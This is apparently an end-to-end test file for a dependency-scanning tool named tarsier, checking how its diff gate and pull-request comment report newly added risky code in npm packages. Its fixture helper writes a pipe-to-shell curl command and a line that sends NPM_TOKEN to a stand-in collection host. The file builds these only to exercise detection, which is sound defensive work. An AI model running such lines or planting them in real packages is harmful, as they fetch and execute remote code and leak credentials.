// End-to-end: a finding keeps its identity across versions and line moves, and the diff gate and
// the pull-request comment count only what a change adds (build/tarsier against the local
// registry).
#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include "tests/support/pack.h"
#include "tests/support/paths.h"
#include "tests/support/process.h"
#include "tests/support/registry_server.h"

using namespace tarsier::test;
using nlohmann::json;

namespace {

// The same risky code as a bundle would ship it: `names` are the minifier's variable names.
std::string risky_bundle(const std::string& prelude, const std::string& cp, const std::string& h) {
  return prelude + "const " + cp + " = require('child_process');\n" + cp +
         ".exec('curl -s https://collect.example.invalid/x | sh');\nconst " + h +
         " = require('https');\n" + h +
         ".get('https://collect.example.invalid/?t=' + process.env.NPM_TOKEN);\n";
}

std::string benign_lines(int n) {
  std::string out;
  for (int i = 0; i < n; ++i) {
    out += "function helper" + std::to_string(i) + "(a, b) { return a + b * " + std::to_string(i) +
           "; }\n";
  }
  return out;
}

std::string lockfile(const std::string& name, const std::string& version,
                     const std::string& integrity) {
  json lock = {{"name", "app"}, {"version", "1.0.0"}, {"lockfileVersion", 3}, {"requires", true}};
  lock["packages"] = {
      {"", {{"name", "app"}, {"version", "1.0.0"}, {"dependencies", {{name, "^" + version}}}}},
      {"node_modules/" + name, {{"version", version}, {"integrity", integrity}}}};
  return lock.dump(2) + "\n";
}

struct DiffRun {
  ProcessResult run;
  json report;
  std::string markdown;
};

DiffRun diff(RegistryServer& registry, TempDir& dir, const std::string& name,
             const std::string& from, const std::string& to, const std::string& fail_on) {
  std::string base = dir.write(
      "base/package-lock.json",
      lockfile(name, from, registry.publish_dir(name, from, dir.path() + "/src-" + from)));
  std::string head =
      dir.write("head/package-lock.json",
                lockfile(name, to, registry.publish_dir(name, to, dir.path() + "/src-" + to)));
  DiffRun out;
  out.run = run_process(
      {tarsier_binary(), "diff", "-q", "--registry", registry.base_url(), "--fail-on", fail_on,
       "-f", "json", "--markdown-output", dir.path() + "/comment.md", base, head},
      isolated_env(dir.path()));
  INFO(out.run.err);
  out.report = json::parse(out.run.out);
  out.markdown = read_text_file(dir.path() + "/comment.md");
  return out;
}

}  // namespace

TEST_CASE("risky code that moves between versions adds nothing to a diff", "[e2e][diff]") {
  RegistryServer registry;
  TempDir dir;
  dir.write("src-1.0.0/package.json", R"({"name":"mover","version":"1.0.0"})");
  dir.write("src-1.0.0/dist/1.0.0/bundle.js", risky_bundle("'use strict';\n", "a", "b"));
  // The next version: the bundle's folder carries the new version, 400 lines come before the
  // risky code, the minifier picked other names and the spacing changed.
  dir.write("src-1.1.0/package.json", R"({"name":"mover","version":"1.1.0"})");
  dir.write("src-1.1.0/dist/1.1.0/bundle.js", risky_bundle(benign_lines(400), "Xe", "Qt"));

  auto result = diff(registry, dir, "mover", "1.0.0", "1.1.0", "low");
  REQUIRE(result.run.exit_code == 0);
  const json& package = result.report["packages"][0];
  REQUIRE(package["name"] == "mover");
  CHECK(package["risk_before"] != "none");  // the old version is risky too
  CHECK(package["added_risk"] == "none");
  CHECK(package["new_findings"].empty());
  CHECK(package["threats_new"].empty());
  CHECK(result.markdown.find("nothing this change adds reaches low") != std::string::npos);
  CHECK(result.markdown.find("nothing new") != std::string::npos);
  CHECK(result.markdown.find("adds **") == std::string::npos);
}

TEST_CASE("a change that adds only a low finding is shown as adding low", "[e2e][diff]") {
  RegistryServer registry;
  TempDir dir;
  std::string code = risky_bundle("", "a", "b");
  dir.write("src-2.0.0/package.json", R"({"name":"grower","version":"2.0.0"})");
  dir.write("src-2.0.0/index.js", code);
  dir.write("src-2.1.0/package.json", R"({"name":"grower","version":"2.1.0"})");
  dir.write("src-2.1.0/index.js", code + "module.exports = process.env.HOME;\n");

  auto result = diff(registry, dir, "grower", "2.0.0", "2.1.0", "medium");
  REQUIRE(result.run.exit_code == 0);
  const json& package = result.report["packages"][0];
  CHECK(package["risk"] == package["risk_before"]);
  CHECK(package["added_risk"] == "low");
  CHECK_FALSE(package["new_findings"].empty());
  // The comment's verdict is green and the package sits with the changes adding low.
  CHECK(result.markdown.find("nothing this change adds reaches medium") != std::string::npos);
  CHECK(result.markdown.find("(was ") == std::string::npos);
  auto folded = result.markdown.find("<details>");
  REQUIRE(folded != std::string::npos);
  CHECK(result.markdown.find("**adds low**", folded) != std::string::npos);
  CHECK(result.markdown.find("<code>grower</code>", folded) != std::string::npos);
}

TEST_CASE("the comment leads with the reasons a change fails", "[e2e][diff]") {
  RegistryServer registry;
  TempDir dir;
  dir.write("src-3.0.0/package.json", R"({"name":"turner","version":"3.0.0"})");
  dir.write("src-3.0.0/index.js", "module.exports = (a, b) => a + b;\n");
  dir.write("src-3.0.1/package.json", R"({"name":"turner","version":"3.0.1"})");
  dir.write("src-3.0.1/index.js", risky_bundle(benign_lines(3), "a", "b"));

  auto result = diff(registry, dir, "turner", "3.0.0", "3.0.1", "medium");
  REQUIRE(result.run.exit_code == 1);
  const std::string& md = result.markdown;
  auto verdict = md.find("1 change adds risk at or above medium");
  auto reason = md.find("<code>turner</code> 3.0.0 -&gt; 3.0.1** adds **");
  REQUIRE(verdict != std::string::npos);
  REQUIRE(reason != std::string::npos);
  CHECK(verdict < reason);
  // Evidence with its file and line, how the package entered the tree, the command to see it.
  CHECK(md.find("<code>index.js:", reason) != std::string::npos);
  CHECK(md.find("threat <code>pipe-to-shell</code>", reason) != std::string::npos);
  CHECK(md.find("direct dependency", reason) != std::string::npos);
  CHECK(md.find("tarsier explain turner&#64;3.0.1", reason) != std::string::npos);
  CHECK(md.size() < 65536);
}
